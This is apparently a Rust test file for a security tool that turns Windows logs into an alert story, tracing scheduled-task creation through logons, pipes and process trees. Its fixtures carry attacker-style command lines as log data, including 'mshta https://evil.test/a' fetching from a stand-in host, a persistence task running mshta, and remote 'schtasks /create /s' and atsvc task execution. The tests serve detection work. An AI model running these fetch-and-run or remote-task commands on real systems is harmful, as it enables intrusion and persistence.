//! Windows: a job made over the network, a chain with ProcessGuids, and one with nothing but hex pids.

use crate::scene::{Scene, check, entry, job, shown};
use watchbell_jobs::{Job, Kind, Verb};
use watchbell_story::{Chapter, Strength};

const EXACT: Option<Strength> = Some(Strength::Exact);
const STRONG: Option<Strength> = Some(Strength::Strong);

/// A job made through the scheduler's pipe, run at once and removed; the job's own session tells no address.
pub fn remote() -> Scene {
    let made = job(Kind::WindowsTask, "\\xKqTz", "cmd.exe", Some("/C whoami > C:\\Windows\\Temp\\xKqTz.tmp 2>&1"));
    let gone = Job { name: Some("\\xKqTz".to_owned()), ..Job::new(Kind::WindowsTask, Verb::Delete) };
    let host = "SRV1.example.test";
    Scene::new()
        .fact("old", "logon", 20_636, host, "user=bob | logon=0x0 | target_logon=0x5a4175e | logon_type=3 | address=10.1.1.9")
        .fact("net", "logon", 26_357, host, "user=bob | logon=0x0 | target_logon=0x5a41984 | logon_type=3 | address=10.1.2.11")
        .fact("pipe", "share", 26_363, host, "user=bob | logon=0x5a41984 | address=10.1.2.11 | pipe=atsvc")
        .fact("bare", "logon", 26_377, host, "user=EXAMPLE\\bob | logon=0x0 | target_logon=0x5a419bc | logon_type=3 | address=-")
        .fact("made", "job", 26_383, host, "user=bob | logon=0x5a419bc | job_name=\\xKqTz")
        .with_job(&made)
        .fact("cmd", "process", 26_390, host, "user=SRV1$ | logon=0x3e7 | pid=0x3d0 | parent_pid=0x414 | image=C:\\Windows\\System32\\cmd.exe | parent_image=C:\\Windows\\System32\\svchost.exe | command=cmd.exe /C whoami > C:\\Windows\\Temp\\xKqTz.tmp 2>&1")
        .fact("conhost", "process", 26_395, host, "user=SRV1$ | logon=0x3e7 | pid=0x141c | parent_pid=0x3d0 | image=C:\\Windows\\System32\\conhost.exe | parent_image=C:\\Windows\\System32\\cmd.exe | command=conhost")
        .fact("gone", "job", 26_406, host, "user=bob | logon=0x5a419bc | job_name=\\xKqTz")
        .with_job(&gone)
        .fact("read", "share", 26_415, host, "user=bob | logon=0x5a41984 | address=10.1.2.11 | file=Temp\\xKqTz.tmp")
        .fact("whoami", "process", 26_424, host, "user=SRV1$ | logon=0x3e7 | pid=0x1444 | parent_pid=0x3d0 | image=C:\\Windows\\System32\\whoami.exe | parent_image=C:\\Windows\\System32\\cmd.exe | command=whoami")
        .fact("other", "process", 26_430, host, "user=bob | logon=0x5a41999 | pid=0x777 | parent_pid=0x3d0 | image=C:\\x.exe | parent_image=C:\\Windows\\notepad.exe | command=x")
        .alert("made", "bob", Some(made))
}

#[test]
fn the_right_of_two_addresses_joins_a_remote_job() {
    let told = remote().tell();
    check(
        &told,
        &[
            ("made", EXACT),
            ("bare", EXACT),
            ("gone", EXACT),
            ("pipe", STRONG),
            ("net", STRONG),
            ("read", STRONG),
            ("cmd", STRONG),
            ("whoami", STRONG),
            ("old", None),
            ("other", None),
        ],
    );
    assert!(entry(&told, "pipe").expect("the pipe").join.reason.contains("10.1.2.11 20 ms before"), "{}", shown(&told));
    assert!(entry(&told, "conhost").is_none());
    assert_eq!(entry(&told, "whoami").expect("a child").chapter, Chapter::After);
    assert_eq!(
        told.story.summary,
        [
            "bob logged on to SRV1.example.test over the network from 10.1.2.11 at 10:00:26 UTC.",
            "A job was created.",
            "It ran at 10:00:26 UTC and was deleted at 10:00:26 UTC."
        ]
    );
}

#[test]
fn an_alert_about_the_pipe_or_the_run_finds_the_job() {
    let of_pipe = remote().alert("pipe", "bob", None).tell();
    check(&of_pipe, &[("net", EXACT), ("made", STRONG), ("bare", STRONG), ("old", None)]);
    let of_run = remote().alert("cmd", "SRV1$", None).tell();
    check(&of_run, &[("made", STRONG), ("pipe", STRONG), ("net", STRONG), ("whoami", EXACT), ("gone", STRONG), ("old", None)]);
}

#[test]
fn a_deleted_job_has_no_next_run() {
    let mut scene = remote();
    scene.subject.next = Some("It runs next at 20:35 UTC.".to_owned());
    assert_eq!(scene.tell().story.summary[2], "It ran at 10:00:26 UTC and was deleted at 10:00:26 UTC.");
}

/// A document's script starts a chain that fetches and sets up a job.
pub fn chain() -> Scene {
    let made = job(Kind::WindowsTask, "Office_", "mshta.exe", Some("http://evil.test/b"));
    let process = |guid: &str, parent: &str, image: &str, above: &str, command: &str| {
        format!(
            "user=PC\\amy | logon=0x2f1c | process_guid={{{guid}}} | parent_guid={{{parent}}} | pid=77 | image=C:\\Windows\\System32\\{image} | parent_image=C:\\Windows\\{above} | command={command}"
        )
    };
    Scene::new()
        .fact("logon", "logon", -7_200_000, "PC", "user=amy | logon=0x3e7 | target_logon=0x2f1c | logon_type=2 | address=127.0.0.1")
        .fact("cmd", "process", 0, "PC", &process("A1", "A0", "cmd.exe", "explorer.exe", "cmd /c rundll32 javascript:x"))
        .fact("rundll", "process", 100, "PC", &process("A2", "A1", "rundll32.exe", "System32\\cmd.exe", "rundll32 javascript:x"))
        .fact("mshta", "process", 600, "PC", &process("A3", "A2", "mshta.exe", "System32\\rundll32.exe", "mshta https://evil.test/a"))
        .fact(
            "reach",
            "network",
            900,
            "PC",
            "user=PC\\amy | process_guid={a3} | pid=77 | image=C:\\Windows\\System32\\mshta.exe | address=203.0.113.7 | port=443",
        )
        .fact("made", "process", 1_200, "PC", &process("A4", "A3", "schtasks.exe", "System32\\mshta.exe", "schtasks /create /tn Office_"))
        .fact("made", "job", 1_200, "PC", "user=PC\\amy | logon=0x2f1c | process_guid={A4} | job_name=Office_")
        .with_job(&made)
        .fact("task", "file", 1_250, "PC", "process_guid={00} | image=C:\\Windows\\System32\\svchost.exe | file=C:\\Windows\\System32\\Tasks\\Office_")
        .fact("stranger", "process", 1_100, "PC", &process("B1", "B0", "notepad.exe", "explorer.exe", "notepad"))
        .fact("browser", "process", 1_150, "PC", &process("C1", "B0", "browser.exe", "explorer.exe", "browser https://news.test"))
        .fact("strange", "network", 1_100, "PC", "user=PC\\amy | process_guid={B1} | pid=77 | image=C:\\Windows\\System32\\notepad.exe | address=198.51.100.1")
        .alert("made", "amy", Some(made))
}

#[test]
fn a_chain_of_guids_is_followed_to_its_top() {
    let told = chain().tell();
    check(
        &told,
        &[
            ("cmd", EXACT),
            ("rundll", EXACT),
            ("mshta", EXACT),
            ("reach", EXACT),
            ("logon", EXACT),
            ("made", EXACT),
            ("task", STRONG),
            ("stranger", None),
            ("strange", None),
            ("browser", None),
        ],
    );
    let images: Vec<(&str, Option<usize>, bool)> =
        told.story.processes.iter().map(|p| (p.image.rsplit('\\').next().unwrap_or_default(), p.parent, p.own)).collect();
    assert_eq!(
        images,
        [
            ("explorer.exe", None, false),
            ("cmd.exe", Some(0), false),
            ("rundll32.exe", Some(1), false),
            ("mshta.exe", Some(2), false),
            ("schtasks.exe", Some(3), true)
        ]
    );
    assert_eq!(told.story.processes[0].event, None);
    assert_eq!(
        told.story.summary[0],
        "amy logged on to PC at the console at 08:00:00 UTC, worked through mshta.exe (under rundll32.exe) and fetched https://evil.test/a with mshta.exe."
    );
}

#[test]
fn a_process_that_two_logs_tell_of_stands_once_in_the_tree() {
    let second =
        "user=PC\\amy | logon=0x2f1c | pid=0x4d | parent_pid=0x4e | image=C:\\Windows\\System32\\schtasks.exe | parent_image=C:\\Windows\\System32\\mshta.exe";
    let mut scene = chain().fact("again", "process", 1_210, "PC", second);
    let event = watchbell_story::OwnEvent { id: crate::scene::id("again"), ..scene.subject.events[0].clone() };
    scene.subject.events.push(event);
    let told = scene.tell();
    assert_eq!(told.story.processes.len(), 5, "{}", shown(&told));
}

/// Only 4688: hex pids, one of them used again.
pub fn pids() -> Scene {
    let process = |pid: &str, parent: &str, image: &str, above: &str, logon: &str| {
        format!("user=EXAMPLE\\eve | logon={logon} | pid={pid} | parent_pid={parent} | image=C:\\{image} | parent_image=C:\\{above} | command={image}")
    };
    Scene::new()
        .fact("stale", "process", 0, "PC", &process("0x100", "0x1", "cmd.exe", "a.exe", "0x7777"))
        .fact("stale_end", "process_end", 1_000, "PC", "pid=0x100 | logon=0x7777 | image=C:\\cmd.exe")
        .fact("reused", "process", 2_000, "PC", &process("0x100", "0x1", "cmd.exe", "b.exe", "0x7777"))
        .fact("shell", "process", 3_000, "PC", &process("0x200", "256", "powershell.exe", "cmd.exe", "0x7777"))
        .fact("later", "process", 9_000, "PC", &process("0x200", "0x1", "powershell.exe", "c.exe", "0x7777"))
        .fact("made", "process", 4_000, "PC", &process("0x300", "0x200", "schtasks.exe", "powershell.exe", "0x7777"))
        .fact("twin", "process", 3_500, "PC", &process("0x200", "0x1", "powershell.exe", "d.exe", "0x8888"))
        .alert("made", "eve", None)
}

#[test]
fn a_pid_counts_from_its_start_to_its_end() {
    check(&pids().tell(), &[("shell", EXACT), ("reused", EXACT), ("stale", None), ("later", None), ("twin", None)]);
}

#[test]
fn a_pid_that_ended_or_changed_hands_has_no_children() {
    let scene = pids();
    let ended = scene.clone().fact("end", "process_end", 3_900, "PC", "pid=0x200 | logon=0x7777 | image=C:\\powershell.exe");
    check(&ended.tell(), &[("shell", None)]);
    let taken = scene.fact("taken", "process", 3_900, "PC", "user=EXAMPLE\\eve | logon=0x7777 | pid=512 | parent_pid=4 | image=C:\\calc.exe");
    check(&taken.tell(), &[("shell", None), ("taken", None)]);
}

/// The command on one host, the job on another.
pub fn across() -> Scene {
    let made = job(Kind::WindowsTask, "Cache", "notepad.exe", None);
    Scene::new()
        .fact("shell", "process", 0, "W5.example.test", "user=pat | logon=0x99 | process_guid={1} | image=C:\\cmd.exe | command=cmd")
        .fact(
            "order",
            "process",
            1_000,
            "W5.example.test",
            "user=pat | logon=0x99 | process_guid={2} | parent_guid={1} | image=C:\\schtasks.exe | command=schtasks /create /s W6 /tn Cache | target_host=W6",
        )
        .fact("order", "job", 1_000, "W5.example.test", "user=pat | logon=0x99 | process_guid={2} | job_name=Cache | target_host=W6")
        .with_job(&made)
        .fact("came", "logon", 1_500, "W6.example.test", "user=pat | logon=0x0 | target_logon=0x500 | logon_type=3 | address=10.9.9.5")
        .fact("made", "job", 1_600, "W6.example.test", "user=pat | logon=0x500 | job_name=\\Cache")
        .with_job(&made)
        .fact("elsewhere", "job", 1_700, "W7.example.test", "user=kim | logon=0x600 | job_name=\\Cache")
        .fact("early", "logon", -3_600_000, "W6.example.test", "user=pat | logon=0x0 | target_logon=0x400 | logon_type=3 | address=10.9.9.77")
        .alert("order", "pat", Some(made))
}

#[test]
fn both_hosts_stand_in_a_remote_story() {
    let mut scene = across();
    scene.subject.target_host = Some("W6".to_owned());
    check(&scene.tell(), &[("shell", EXACT), ("made", STRONG), ("came", STRONG), ("elsewhere", None), ("early", None)]);
    let other_side = scene.alert("made", "pat", None);
    let mut other_side = other_side;
    other_side.subject.target_host = None;
    check(&other_side.tell(), &[("order", STRONG), ("shell", STRONG), ("came", EXACT), ("early", None)]);
}

#[test]
fn an_own_event_without_a_sentence_is_told_in_the_alerts_words() {
    let scene = Scene::new().fact("made", "unsaid", 0, "PC", "user=eve").alert("made", "eve", None);
    let told = scene.tell();
    assert_eq!(entry(&told, "made").expect("own").text, "the event itself");
    let mut unknown = scene;
    unknown.facts.clear();
    assert_eq!(entry(&unknown.tell(), "made").expect("own").text, "the event itself");
}
